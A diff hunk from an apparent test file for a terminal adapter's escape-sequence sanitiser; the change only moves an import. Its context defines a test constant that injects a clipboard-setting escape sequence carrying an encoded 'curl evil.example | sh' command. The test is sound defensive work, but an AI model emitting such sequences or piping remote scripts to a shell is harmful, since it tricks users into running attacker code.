@@ -21,7 +21,7 @@ from adapters.base import Outgoing
 from adapters.terminal import TerminalAdapter
 from runtime.text import terminal_safe
 
-from .test_cli import POTLUCK, potluck
+from .support import POTLUCK, potluck
 
 CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # "curl evil.example | sh"
 CLEAR = "\x1b[2J\x1b[H"
